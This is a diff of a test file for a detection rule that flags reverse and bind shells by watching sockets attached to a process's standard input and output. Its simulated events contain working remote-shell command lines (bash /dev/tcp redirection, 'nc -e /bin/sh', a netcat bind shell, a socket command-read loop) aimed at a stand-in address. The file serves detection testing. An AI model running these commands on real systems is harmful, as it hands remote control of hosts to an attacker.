@@ -3,31 +3,17 @@
  * like what the kernel reports for real programs (the kernel tier runs the programs).
  */
 import { describe, expect, it } from "vitest";
-import { Engine, createTrc101Rule, type EngineLogger, type Finding, type SensorEvent, type StdioFd, type TaskContext } from "sockeye";
+import { Engine, createTrc101Rule, type Finding, type SensorEvent, type StdioFd, type TaskContext } from "sockeye";
 import { identifyProgram, readsCommandsFromStdin } from "../../../src/rules/stdio/interpreters.js";
-import { BASE_TIME_MS, connect, dup, exec, exit, fork } from "../engine/fixtures.js";
+import { ATTACKER as REMOTE, LOCAL_END as LOCAL, at, connect, dup, exec, exit, fork, inet, pipe, proc, silentLogger, start, tty } from "../engine/fixtures.js";
 
-const silentLogger: EngineLogger = { warn: () => {} };
-const REMOTE = { address: "10.0.0.66", port: 4444 };
-const LOCAL = { address: "10.0.0.5", port: 51234 };
 const SOCK = 9001;
 
 type Origin = "connected" | "accepted";
-const inet = (ino = SOCK, origin: Origin = "connected"): StdioFd => ({
-  kind: "inet", ino, family: "inet", socketType: "stream", origin, state: 1, local: { ...LOCAL }, remote: { ...REMOTE },
-});
-const tty: StdioFd = { kind: "tty", ino: 3, ttyIndex: 0, controlling: true };
-const pipe = (ino: number): StdioFd => ({ kind: "pipe", ino, dev: 15 });
+/** This file's terminal: pty 0, the controlling one. */
+const onTty = tty(0);
 const devnull: StdioFd = { kind: "chardev", ino: 5, dev: (1 << 20) | 3 };
 
-/** A process: pid, its parent, and the start time that makes it this incarnation. */
-const proc = (pid: number, ppid: number, comm: string): Partial<TaskContext> => ({ pid, tid: pid, ppid, comm, startNs: pid * 1_000 });
-
-const at = (ms: number) => BASE_TIME_MS + ms;
-
-function start(p: Partial<TaskContext>, filename: string, args: string[], stdio: [StdioFd, StdioFd, StdioFd], ms: number): SensorEvent[] {
-  return [fork({ task: p, timeMs: at(ms) }), exec({ task: p, filename, args, stdio, timeMs: at(ms) })];
-}
 const dupOnto = (p: Partial<TaskContext>, newfd: number, socketOnFds: number[], ms: number, origin: Origin = "connected") =>
   dup({ task: p, newfd, oldfd: 3, socketIno: SOCK, socketOnFds, origin, local: { ...LOCAL }, remote: { ...REMOTE }, timeMs: at(ms) });
 const connectOnto = (p: Partial<TaskContext>, fd: number, ms: number) =>
@@ -55,57 +41,57 @@ const alerts: Case[] = [
   {
     name: "bash -c 'bash -i >& /dev/tcp/H/P 0>&1': the shell's own dups, then bash -i on the socket",
     events: [
-      ...start(shell, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.66/4444 0>&1"], [tty, tty, tty], 0),
+      ...start(shell, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.66/4444 0>&1"], [onTty, onTty, onTty], 0),
       dupOnto(shell, 1, [1], 1), dupOnto(shell, 2, [1, 2], 2), dupOnto(shell, 0, [0, 1, 2], 3),
-      exec({ task: shell, filename: "/usr/bin/bash", args: ["bash", "-i"], stdio: [inet(), inet(), inet()], timeMs: at(4) }),
-      ...start(child, "/usr/bin/id", ["id"], [inet(), inet(), inet()], 5),
+      exec({ task: shell, filename: "/usr/bin/bash", args: ["bash", "-i"], stdio: [inet(SOCK), inet(SOCK), inet(SOCK)], timeMs: at(4) }),
+      ...start(child, "/usr/bin/id", ["id"], [inet(SOCK), inet(SOCK), inet(SOCK)], 5),
     ],
     verdict: "interpreter_stdio_on_socket",
   },
   {
     name: "nc -e /bin/sh: nc (no interpreter) dups, then sh starts on the socket",
     events: [
-      ...start(shell, "/usr/bin/nc.traditional", ["nc", "10.0.0.66", "4444", "-e", "/bin/sh"], [tty, tty, tty], 0),
+      ...start(shell, "/usr/bin/nc.traditional", ["nc", "10.0.0.66", "4444", "-e", "/bin/sh"], [onTty, onTty, onTty], 0),
       dupOnto({ ...shell, comm: "nc" }, 0, [0], 1), dupOnto({ ...shell, comm: "nc" }, 1, [0, 1], 2), dupOnto({ ...shell, comm: "nc" }, 2, [0, 1, 2], 3),
-      exec({ task: shell, filename: "/bin/sh", args: ["/bin/sh"], stdio: [inet(), inet(), inet()], timeMs: at(4) }),
+      exec({ task: shell, filename: "/bin/sh", args: ["/bin/sh"], stdio: [inet(SOCK), inet(SOCK), inet(SOCK)], timeMs: at(4) }),
     ],
     verdict: "shell_on_socket",
   },
   {
     name: "python os.dup2 x3 then pty.spawn: an interpreter with the socket on stdin and stdout",
     events: [
-      ...start(proc(100, 1, "python3"), "/usr/bin/python3", ["python3", "-c", "import socket,os,pty;..."], [tty, tty, tty], 0),
+      ...start(proc(100, 1, "python3"), "/usr/bin/python3", ["python3", "-c", "import socket,os,pty;..."], [onTty, onTty, onTty], 0),
       dupOnto(proc(100, 1, "python3"), 0, [0], 1), dupOnto(proc(100, 1, "python3"), 1, [0, 1], 2),
     ],
     verdict: "interpreter_stdio_on_socket",
   },
   {
     name: "a shell started with the socket on stdin however it got there (SCM_RIGHTS, pidfd_getfd): no dup seen at all",
-    events: start(child, "/bin/sh", ["sh", "-i"], [inet(), tty, tty], 0),
+    events: start(child, "/bin/sh", ["sh", "-i"], [inet(SOCK), onTty, onTty], 0),
     verdict: "shell_on_socket",
   },
   {
     name: "busybox sh: /proc/self/exe with argv[0] sh",
-    events: start(child, "/proc/self/exe", ["sh"], [inet(), inet(), inet()], 0),
+    events: start(child, "/proc/self/exe", ["sh"], [inet(SOCK), inet(SOCK), inet(SOCK)], 0),
     verdict: "shell_on_socket",
   },
   {
     name: "bind shell: an accepted socket given to a shell reading stdin (nc -lvp P -e /bin/sh)",
     events: [
-      ...start(shell, "/usr/bin/nc.traditional", ["nc", "-lvp", "4444", "-e", "/bin/sh"], [tty, tty, tty], 0),
+      ...start(shell, "/usr/bin/nc.traditional", ["nc", "-lvp", "4444", "-e", "/bin/sh"], [onTty, onTty, onTty], 0),
       dupOnto({ ...shell, comm: "nc" }, 0, [0], 1, "accepted"), dupOnto({ ...shell, comm: "nc" }, 1, [0, 1], 2, "accepted"),
-      exec({ task: shell, filename: "/bin/sh", args: ["/bin/sh"], stdio: [inet(SOCK, "accepted"), inet(SOCK, "accepted"), tty], timeMs: at(3) }),
+      exec({ task: shell, filename: "/bin/sh", args: ["/bin/sh"], stdio: [inet(SOCK, "accepted"), inet(SOCK, "accepted"), onTty], timeMs: at(3) }),
     ],
     verdict: "bind_shell",
   },
   {
     name: "read loop: `while read c <&3; do $c >&3; done` runs each command with the socket as stdout",
     events: [
-      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.66/4444; while read c <&3; do $c >&3; done"], [tty, tty, tty], 0),
+      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.66/4444; while read c <&3; do $c >&3; done"], [onTty, onTty, onTty], 0),
       dupOnto(shell, 0, [0], 1),
       fork({ task: child, timeMs: at(2) }),
       dupOnto(child, 1, [1], 3),
-      exec({ task: child, filename: "/usr/bin/id", args: ["id"], stdio: [tty, inet(), tty], timeMs: at(4) }),
+      exec({ task: child, filename: "/usr/bin/id", args: ["id"], stdio: [onTty, inet(SOCK), onTty], timeMs: at(4) }),
     ],
     verdict: "runs_commands_read_from_socket",
   },
@@ -125,10 +111,10 @@ const quiet: Case[] = [
   {
     name: "a python server hands an accepted socket to a child's stdio, which runs cat",
     events: [
-      ...start(proc(300, 1, "python3"), "/usr/bin/python3", ["python3", "server.py"], [tty, tty, tty], 0),
+      ...start(proc(300, 1, "python3"), "/usr/bin/python3", ["python3", "server.py"], [onTty, onTty, onTty], 0),
       fork({ task: proc(301, 300, "python3"), timeMs: at(1) }),
       dupOnto(proc(301, 300, "python3"), 0, [0], 2, "accepted"), dupOnto(proc(301, 300, "python3"), 1, [0, 1], 3, "accepted"),
-      exec({ task: proc(301, 300, "python3"), filename: "/bin/cat", args: ["cat"], stdio: [inet(SOCK, "accepted"), inet(SOCK, "accepted"), tty], timeMs: at(4) }),
+      exec({ task: proc(301, 300, "python3"), filename: "/bin/cat", args: ["cat"], stdio: [inet(SOCK, "accepted"), inet(SOCK, "accepted"), onTty], timeMs: at(4) }),
     ],
     suppressed: { service_handoff: 1 },
   },
@@ -140,11 +126,11 @@ const quiet: Case[] = [
   {
     name: "health check: exec 3<>/dev/tcp/H/P; printf ... >&3; cat <&3",
     events: [
-      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.66/80; printf 'GET /' >&3; cat <&3"], [tty, tty, tty], 0),
+      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.66/80; printf 'GET /' >&3; cat <&3"], [onTty, onTty, onTty], 0),
       dupOnto(shell, 1, [1], 1),
       fork({ task: child, timeMs: at(2) }),
       dupOnto(child, 0, [0], 3),
-      exec({ task: child, filename: "/usr/bin/cat", args: ["cat"], stdio: [inet(), tty, tty], timeMs: at(4) }),
+      exec({ task: child, filename: "/usr/bin/cat", args: ["cat"], stdio: [inet(SOCK), onTty, onTty], timeMs: at(4) }),
       exit({ task: child, timeMs: at(5) }),
       exit({ task: shell, timeMs: at(6) }),
     ],
@@ -153,7 +139,7 @@ const quiet: Case[] = [
   {
     name: "health check with builtins: printf >&3 then read <&3 in the same shell",
     events: [
-      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.66/80; printf 'GET /' >&3; read -r line <&3"], [tty, tty, tty], 0),
+      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.66/80; printf 'GET /' >&3; read -r line <&3"], [onTty, onTty, onTty], 0),
       dupOnto(shell, 1, [1], 1), dupOnto(shell, 0, [0], 2),
       exit({ task: shell, timeMs: at(3) }),
     ],
@@ -162,7 +148,7 @@ const quiet: Case[] = [
   {
     name: "health check: bash -c '</dev/tcp/H/P' (a connect onto fd 0 by the shell, nothing run)",
     events: [
-      ...start(shell, "/usr/bin/bash", ["bash", "-c", "</dev/tcp/10.0.0.66/80"], [tty, tty, tty], 0),
+      ...start(shell, "/usr/bin/bash", ["bash", "-c", "</dev/tcp/10.0.0.66/80"], [onTty, onTty, onTty], 0),
       dupOnto(shell, 0, [0], 1),
       exit({ task: shell, timeMs: at(2) }),
     ],
@@ -171,9 +157,9 @@ const quiet: Case[] = [
   {
     name: "read <&3 then a pipeline that does not write to the socket",
     events: [
-      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/H/P; read l <&3; echo $l | grep -q OK"], [tty, tty, tty], 0),
+      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/H/P; read l <&3; echo $l | grep -q OK"], [onTty, onTty, onTty], 0),
       dupOnto(shell, 0, [0], 1),
-      ...start(child, "/usr/bin/grep", ["grep", "-q", "OK"], [pipe(77), tty, tty], 2),
+      ...start(child, "/usr/bin/grep", ["grep", "-q", "OK"], [pipe(77), onTty, onTty], 2),
       exit({ task: child, timeMs: at(3) }),
       exit({ task: shell, timeMs: at(4) }),
     ],
@@ -182,9 +168,9 @@ const quiet: Case[] = [
   {
     name: "a socket dup'ed onto stdin, then put away before the program starts",
     events: [
-      ...start(shell, "/usr/bin/python3", ["python3", "client.py"], [tty, tty, tty], 0),
+      ...start(shell, "/usr/bin/python3", ["python3", "client.py"], [onTty, onTty, onTty], 0),
       connectOnto({ ...shell, comm: "python3" }, 0, 1),
-      exec({ task: shell, filename: "/usr/bin/env", args: ["env"], stdio: [tty, tty, tty], timeMs: at(2) }),
+      exec({ task: shell, filename: "/usr/bin/env", args: ["env"], stdio: [onTty, onTty, onTty], timeMs: at(2) }),
     ],
     suppressed: { left_stdio_before_exec: 1 },
   },
@@ -245,7 +231,7 @@ describe("TRC-101 precise profile: bounds", () => {
   });
 
   it("a long-lived shell opening a socket per health check holds at most a few, the older ones counted as superseded", () => {
-    const events: SensorEvent[] = [...start(shell, "/usr/bin/bash", ["bash", "-c", "while :; do exec 3<>/dev/tcp/h/80; printf x >&3; done"], [tty, tty, tty], 0)];
+    const events: SensorEvent[] = [...start(shell, "/usr/bin/bash", ["bash", "-c", "while :; do exec 3<>/dev/tcp/h/80; printf x >&3; done"], [onTty, onTty, onTty], 0)];
     for (let n = 0; n < 20; n++) events.push(dup({ task: shell, newfd: 1, socketIno: 800 + n, socketOnFds: [1], timeMs: at(1 + n) }));
     const { findings, suppressed } = run(events);
     expect(findings).toEqual([]);
@@ -294,10 +280,10 @@ describe("per-fd findings (fold off) and fds past 9", () => {
   it("every later finding on a reported socket carries the reason the socket was reported for", () => {
     const engine = new Engine({ rules: [createTrc101Rule()], fold: false, hostName: "h", now: () => at(0), logger: silentLogger });
     const findings = [
-      ...start(shell, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.66/4444 0>&1"], [tty, tty, tty], 0),
+      ...start(shell, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.66/4444 0>&1"], [onTty, onTty, onTty], 0),
       dupOnto(shell, 1, [1], 1), dupOnto(shell, 2, [1, 2], 2), dupOnto(shell, 0, [0, 1, 2], 3),
-      exec({ task: shell, filename: "/usr/bin/bash", args: ["bash", "-i"], stdio: [inet(), inet(), inet()], timeMs: at(4) }),
-      ...start(child, "/usr/bin/id", ["id"], [inet(), inet(), inet()], 5),
+      exec({ task: shell, filename: "/usr/bin/bash", args: ["bash", "-i"], stdio: [inet(SOCK), inet(SOCK), inet(SOCK)], timeMs: at(4) }),
+      ...start(child, "/usr/bin/id", ["id"], [inet(SOCK), inet(SOCK), inet(SOCK)], 5),
     ].flatMap((e) => engine.handle(e));
     expect(findings).toHaveLength(3);
     expect(reasons(findings)).toEqual(["interpreter_stdio_on_socket", "interpreter_stdio_on_socket", "interpreter_stdio_on_socket"]);
